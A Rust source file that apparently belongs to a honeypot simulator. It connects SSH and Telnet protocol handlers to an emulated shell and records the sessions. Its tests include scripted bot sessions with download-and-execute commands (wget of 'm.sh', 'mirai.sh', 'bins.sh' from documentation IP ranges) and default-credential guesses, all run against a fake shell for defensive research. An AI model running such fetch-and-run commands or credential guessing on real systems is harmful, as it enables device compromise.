//! The one bridge between the honeypot and the wire protocols.
//!
//! [`WireHandler`] drives the auth policy and the shell for `sshwire`
//! (port 22) and `telwire` (port 23) alike, and
//! [`WireHandler::into_record`] is the one conversion of a finished
//! dialogue into a [`SessionRecord`]. Live serving (`serve`) runs this
//! handler over real sockets; [`run_wire_session`] and
//! [`run_telnet_session`] run it against a scripted client in memory.
//! The bulk generator (`session`) skips byte framing for speed, and
//! `tests/equivalence.rs` pins these functions to it, so the oracle checks
//! the handler that serves traffic.

use crate::auth::AuthPolicy;
use crate::record::{CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord};
use crate::shell::{RemoteStore, Shell};
use hutil::DateTime;
use netsim::Ipv4Addr;
use sshwire::{
    run_dialogue, AuthOutcome, ClientScript, ServerHandler, SshClient, SshError, SshServer,
};
use telwire::{
    run_telnet_dialogue, TelnetClient, TelnetError, TelnetHandler, TelnetScript, TelnetServer,
};

/// Bridges the honeypot policy and shell into both wire handler traits,
/// so the same type serves port 22 and port 23, and records what the
/// session did.
pub struct WireHandler<'s> {
    policy: AuthPolicy,
    store: &'s dyn RemoteStore,
    /// Built on the session's first command: most sessions never run
    /// one, and a parked connection should not carry a shell and its
    /// file system. `Shell::new` is deterministic, so a record cannot
    /// tell when it was built; boxing keeps it out of every slab slot.
    shell: Option<Box<Shell<'s>>>,
    logins: Vec<LoginAttempt>,
    commands: Vec<CommandRecord>,
}

impl<'s> WireHandler<'s> {
    /// New handler; its shell is built on the first command.
    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
        Self {
            policy,
            store,
            shell: None,
            logins: Vec::new(),
            commands: Vec::new(),
        }
    }

    /// Judges and records one login attempt. SSH's `none` probe carries
    /// no password: it is always rejected, like Cowrie, and recorded
    /// with an empty one.
    fn login(&mut self, username: &str, password: Option<&str>) -> bool {
        let success = password.is_some_and(|pw| self.policy.accept(username, pw));
        self.logins.push(LoginAttempt {
            username: username.to_string(),
            password: password.unwrap_or_default().to_string(),
            success,
        });
        success
    }

    /// Runs one command line through the shell and records it.
    fn run(&mut self, command: &str) -> (String, bool) {
        let store = self.store;
        let shell = self
            .shell
            .get_or_insert_with(|| Box::new(Shell::new(store)));
        let outcome = shell.exec_line(command);
        self.commands.push(CommandRecord {
            input: command.to_string(),
            known: outcome.known,
        });
        (outcome.output, outcome.known)
    }

    /// The session end of an in-memory dialogue: one second per protocol
    /// round plus one per login and per command, matching the bulk
    /// path's scale.
    fn modelled_end(&self, start: DateTime) -> DateTime {
        start.plus_secs(3 + self.logins.len() as i64 + self.commands.len() as i64)
    }

    /// The finished session's record: the logins and commands this
    /// handler saw and the shell's observations, stamped with the
    /// connection's identity and what the caller knows of the dialogue.
    pub fn into_record(
        self,
        meta: &WireSessionMeta,
        protocol: Protocol,
        client_version: Option<String>,
        end: DateTime,
        end_reason: SessionEndReason,
    ) -> SessionRecord {
        let (uris, file_events) = self
            .shell
            .map(|mut shell| shell.take_observations())
            .unwrap_or_default();
        SessionRecord {
            session_id: 0, // the collector assigns dense ids
            honeypot_id: meta.honeypot_id,
            honeypot_ip: meta.honeypot_ip,
            client_ip: meta.client_ip,
            client_port: meta.client_port,
            protocol,
            start: meta.start,
            end,
            end_reason,
            client_version,
            logins: self.logins,
            commands: self.commands,
            uris,
            file_events,
        }
    }
}

impl ServerHandler for WireHandler<'_> {
    fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome {
        if self.login(username, password) {
            AuthOutcome::Accept
        } else {
            AuthOutcome::Reject
        }
    }

    fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
        let (output, known) = self.run(command);
        let status = if known { 0 } else { 127 };
        (output.into_bytes(), status)
    }
}

impl TelnetHandler for WireHandler<'_> {
    fn auth(&mut self, username: &str, password: &str) -> bool {
        self.login(username, Some(password))
    }

    fn exec(&mut self, command: &str) -> String {
        let (mut out, _) = self.run(command);
        if !out.is_empty() && !out.ends_with('\n') {
            out.push_str("\r\n");
        }
        out
    }
}

/// Network identity of a wire session (addresses aren't part of the
/// dialogue itself).
#[derive(Debug, Clone)]
pub struct WireSessionMeta {
    /// Target sensor id.
    pub honeypot_id: u16,
    /// Target sensor address.
    pub honeypot_ip: Ipv4Addr,
    /// Source address.
    pub client_ip: Ipv4Addr,
    /// Source port.
    pub client_port: u16,
    /// Handshake completion instant.
    pub start: DateTime,
}

/// Runs `script` against a honeypot over the full SSH wire protocol and
/// returns the session record plus total bytes exchanged.
pub fn run_wire_session(
    meta: &WireSessionMeta,
    script: ClientScript,
    policy: AuthPolicy,
    store: &dyn RemoteStore,
) -> Result<(SessionRecord, u64), SshError> {
    let client_version = script.version.clone();
    let client = SshClient::new(script, b"client-nonce".to_vec());
    let server = SshServer::new(
        WireHandler::new(policy, store),
        sshwire::SERVER_VERSION_DEFAULT,
        [0x5a; 16],
        b"server-nonce".to_vec(),
    );
    let (log, handler) = run_dialogue(client, server)?;
    let end = handler.modelled_end(meta.start);
    let record = handler.into_record(
        meta,
        Protocol::Ssh,
        Some(client_version),
        end,
        SessionEndReason::ClientClose,
    );
    Ok((record, log.bytes_to_server + log.bytes_to_client))
}

/// Runs a scripted bot against the honeypot over the Telnet protocol and
/// returns the session record plus total wire bytes.
pub fn run_telnet_session(
    meta: &WireSessionMeta,
    script: TelnetScript,
    policy: AuthPolicy,
    store: &dyn RemoteStore,
) -> Result<(SessionRecord, u64), TelnetError> {
    let client = TelnetClient::new(script);
    let server = TelnetServer::new(WireHandler::new(policy, store), "svr04");
    let (log, handler) = run_telnet_dialogue(client, server)?;
    let end = handler.modelled_end(meta.start);
    // Telnet has no identification string.
    let record = handler.into_record(
        meta,
        Protocol::Telnet,
        None,
        end,
        SessionEndReason::ClientClose,
    );
    Ok((record, log.bytes_to_server + log.bytes_to_client))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::FileOp;
    use crate::shell::NullStore;
    use hutil::Date;

    fn meta() -> WireSessionMeta {
        WireSessionMeta {
            honeypot_id: 7,
            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 7),
            client_ip: Ipv4Addr::from_octets(10, 9, 8, 7),
            client_port: 55555,
            start: Date::new(2023, 2, 14).at(8, 0, 0),
        }
    }

    #[test]
    fn wire_session_produces_full_record() {
        let fetch =
            |uri: &str| (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
        let script = ClientScript::new(
            "root",
            &["root", "admin"],
            &["uname -a", "cd /tmp; wget http://203.0.113.5/m.sh; sh m.sh"],
        );
        let (rec, bytes) =
            run_wire_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
        assert_eq!(rec.logins.len(), 2);
        assert!(!rec.logins[0].success);
        assert!(rec.logins[1].success);
        assert_eq!(rec.commands.len(), 2);
        assert!(rec.commands.iter().all(|c| c.known));
        assert_eq!(rec.uris, vec!["http://203.0.113.5/m.sh"]);
        assert!(rec.changes_state());
        assert!(rec.attempts_exec());
        assert!(bytes > 500, "a real dialogue moves real bytes");
    }

    #[test]
    fn wire_and_bulk_paths_agree() {
        use crate::session::{SessionInput, SessionSim};
        use netsim::latency::LatencyModel;

        let fetch =
            |uri: &str| (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
        let commands = vec![
            "cd /tmp".to_string(),
            "wget http://203.0.113.5/m.sh; sh m.sh".to_string(),
        ];

        let script = ClientScript::new("root", &["root", "1234"], &[&commands[0], &commands[1]]);
        let (wire_rec, _) =
            run_wire_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();

        let sim = SessionSim::new(AuthPolicy::default(), &fetch, LatencyModel::new(1));
        let bulk_rec = sim.run(SessionInput {
            honeypot_id: 7,
            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 7),
            client_ip: Ipv4Addr::from_octets(10, 9, 8, 7),
            client_port: 55555,
            protocol: Protocol::Ssh,
            start: Date::new(2023, 2, 14).at(8, 0, 0),
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![
                ("root".into(), "root".into()),
                ("root".into(), "1234".into()),
            ],
            commands,
            idle_out: false,
        });

        // The observable record content must be identical (timing differs).
        assert_eq!(wire_rec.logins.len(), bulk_rec.logins.len());
        for (w, b) in wire_rec.logins.iter().zip(&bulk_rec.logins) {
            assert_eq!(
                (w.username.as_str(), w.success),
                (b.username.as_str(), b.success)
            );
        }
        assert_eq!(wire_rec.commands, bulk_rec.commands);
        assert_eq!(wire_rec.uris, bulk_rec.uris);
        assert_eq!(wire_rec.file_events, bulk_rec.file_events);
    }

    #[test]
    fn phil_probe_over_the_wire() {
        let store = NullStore;
        let mut script = ClientScript::new("phil", &["anything"], &[]);
        script.hangup_after_auth = true;
        let (rec, _) = run_wire_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
        assert!(rec.login_succeeded());
        assert_eq!(rec.accepted_username(), Some("phil"));
        assert!(rec.commands.is_empty());
        assert!(!rec
            .file_events
            .iter()
            .any(|e| matches!(e.op, FileOp::Created { .. })));
    }

    #[test]
    fn telnet_iot_bot_session() {
        let fetch =
            |uri: &str| (uri == "http://203.0.113.5/mirai.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
        let script = TelnetScript {
            logins: vec![
                ("root".into(), "root".into()), // rejected
                ("root".into(), "vertex25ektks123".into()),
            ],
            commands: vec![
                "cd /tmp".into(),
                "wget http://203.0.113.5/mirai.sh".into(),
                "sh mirai.sh".into(),
            ],
        };
        let (rec, bytes) =
            run_telnet_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
        assert_eq!(rec.protocol, Protocol::Telnet);
        assert_eq!(rec.logins.len(), 2);
        assert!(!rec.logins[0].success && rec.logins[1].success);
        assert_eq!(rec.commands.len(), 3);
        assert!(rec
            .uris
            .contains(&"http://203.0.113.5/mirai.sh".to_string()));
        assert!(rec
            .file_events
            .iter()
            .any(|e| matches!(e.op, FileOp::Created { .. })));
        assert!(rec.attempts_exec());
        assert!(bytes > 100);
    }

    #[test]
    fn telnet_scouting_session() {
        let store = NullStore;
        let script = TelnetScript {
            logins: vec![
                ("admin".into(), "admin".into()),
                ("root".into(), "root".into()),
                ("guest".into(), "guest".into()),
            ],
            commands: vec!["id".into()],
        };
        let (rec, _) = run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
        assert!(!rec.login_succeeded());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.logins.len(), 3);
    }

    #[test]
    fn telnet_record_has_no_client_version() {
        let store = NullStore;
        let script = TelnetScript {
            logins: vec![("root".into(), "tvbox".into())],
            commands: vec![],
        };
        let (rec, _) = run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
        assert!(rec.client_version.is_none());
        assert!(rec.login_succeeded());
    }

    fn ssh_handler<'s>(store: &'s NullStore, commands: &[&str]) -> WireHandler<'s> {
        let client = SshClient::new(ClientScript::new("root", &["admin"], commands), vec![7]);
        let server = SshServer::new(
            WireHandler::new(AuthPolicy::default(), store),
            sshwire::SERVER_VERSION_DEFAULT,
            [0; 16],
            vec![1],
        );
        let (log, handler) = run_dialogue(client, server).expect("ssh dialogue");
        assert_eq!(log.authenticated_user.as_deref(), Some("root"));
        handler
    }

    fn telnet_handler<'s>(store: &'s NullStore, commands: &[&str]) -> WireHandler<'s> {
        let client = TelnetClient::new(TelnetScript {
            logins: vec![("root".into(), "admin".into())],
            commands: commands.iter().map(|c| c.to_string()).collect(),
        });
        let server = TelnetServer::new(WireHandler::new(AuthPolicy::default(), store), "svr04");
        let (log, handler) = run_telnet_dialogue(client, server).expect("telnet dialogue");
        assert!(log.auth_log.iter().any(|(_, _, ok)| *ok));
        handler
    }

    /// What a barrage-style client sends over one whole SSH dialogue with
    /// the machine `fuzz_server` builds: a credential scout, a login-only
    /// intruder, a command bot and a loader.
    fn recorded_client_streams(store: &NullStore) -> Vec<Vec<u8>> {
        let mut intruder = ClientScript::new("root", &["pw1234"], &[]);
        intruder.hangup_after_auth = true;
        let scripts = [
            ClientScript::new("admin", &["123456", "password", "root"], &[]),
            intruder,
            ClientScript::new("root", &["pw77"], &["uname -a", "nproc"]),
            ClientScript::new(
                "root",
                &["pw9"],
                &["cd /tmp", "wget http://198.51.100.7/bins.sh", "sh bins.sh"],
            ),
        ];
        scripts
            .into_iter()
            .map(|script| {
                let mut client = SshClient::new(script, vec![7]);
                let mut server = fuzz_server(store);
                let mut sent = Vec::new();
                loop {
                    let (up, down) = (client.take_output(), server.take_output());
                    if up.is_empty() && down.is_empty() {
                        return sent;
                    }
                    sent.extend_from_slice(&up);
                    server.input(&up).expect("a recorded dialogue is valid");
                    client.input(&down).expect("a recorded dialogue is valid");
                }
            })
            .collect()
    }

    fn fuzz_server(store: &NullStore) -> SshServer<WireHandler<'_>> {
        SshServer::new(
            WireHandler::new(AuthPolicy::default(), store),
            sshwire::SERVER_VERSION_DEFAULT,
            [3; 16],
            vec![1],
        )
    }

    /// Feeds `stream` to a fresh machine in random chunks. Once a chunk
    /// is refused the machine must be closed, and from then on it must
    /// drop whatever follows: no output, no more logins or commands.
    /// Returns whether any chunk was refused, and what the machine
    /// answered before that.
    fn feed_in_chunks(
        store: &NullStore,
        stream: &[u8],
        rng: &mut rand::rngs::StdRng,
    ) -> (bool, Vec<u8>) {
        use rand::Rng;
        let mut server = fuzz_server(store);
        let (mut at, mut failed, mut answer) = (0, false, server.take_output().to_vec());
        while at < stream.len() {
            let end = (at + rng.random_range(1..=600usize)).min(stream.len());
            let r = server.input(&stream[at..end]);
            at = end;
            if failed {
                assert!(r.is_ok(), "a closed machine refused input");
                assert!(server.take_output().is_empty(), "a closed machine answered");
            } else if r.is_err() {
                assert!(server.is_closed(), "an error left the machine open");
                failed = true;
                server.take_output();
            } else {
                answer.extend_from_slice(&server.take_output());
            }
        }
        if failed {
            let seen = (server.auth_log().len(), server.exec_log().len());
            assert!(server.input(stream).is_ok());
            assert!(server.input(&[0xff; 4096]).is_ok());
            assert!(server.take_output().is_empty(), "a closed machine answered");
            assert_eq!((server.auth_log().len(), server.exec_log().len()), seen);
        }
        (failed, answer)
    }

    /// Seeded fuzz of `SshServer::input`, the parser every SSH attacker
    /// reaches: arbitrary bytes (bare, and behind a valid version line so
    /// the packet decoder sees them), and truncations and single-byte
    /// flips of recorded dialogues, each cut into random chunks.
    #[test]
    fn ssh_server_input_survives_seeded_fuzz() {
        use rand::rngs::StdRng;
        use rand::{Rng, SeedableRng};
        let store = NullStore;
        let streams = recorded_client_streams(&store);
        let mut rng = StdRng::seed_from_u64(0x5eed_0051);
        let (mut refused, mut flips) = (0, 0);
        for case in 0..3_000 {
            let base = &streams[case % streams.len()];
            match case % 4 {
                0 => {
                    let len = rng.random_range(0..2_048usize);
                    let mut junk: Vec<u8> = if rng.random::<bool>() {
                        b"SSH-2.0-fuzz\r\n".to_vec()
                    } else {
                        Vec::new()
                    };
                    junk.extend((0..len).map(|_| rng.random::<u32>() as u8));
                    refused += feed_in_chunks(&store, &junk, &mut rng).0 as u32;
                }
                1 => {
                    // A truncated dialogue is only unfinished: never
                    // refused, and answered as if it came in one piece.
                    let cut = rng.random_range(0..base.len());
                    let (failed, answer) = feed_in_chunks(&store, &base[..cut], &mut rng);
                    assert!(!failed, "a truncated dialogue was refused (cut at {cut})");
                    let mut whole = fuzz_server(&store);
                    whole.input(&base[..cut]).unwrap();
                    assert_eq!(answer, &whole.take_output()[..], "cut at {cut}");
                }
                _ => {
                    let mut flipped = base.clone();
                    let at = rng.random_range(0..flipped.len());
                    flipped[at] ^= rng.random_range(1..256u32) as u8;
                    refused += feed_in_chunks(&store, &flipped, &mut rng).0 as u32;
                    flips += 1;
                }
            }
        }
        // The flips and the junk must reach the error paths, not just
        // the happy one.
        assert!(
            refused > flips / 2,
            "only {refused} of the cases were refused"
        );
    }

    #[test]
    fn shell_is_built_on_the_first_command() {
        let store = NullStore;
        assert!(ssh_handler(&store, &[]).shell.is_none());
        assert!(ssh_handler(&store, &["uname -a"]).shell.is_some());
        assert!(telnet_handler(&store, &[]).shell.is_none());
        assert!(telnet_handler(&store, &["uname -a"]).shell.is_some());
    }
}
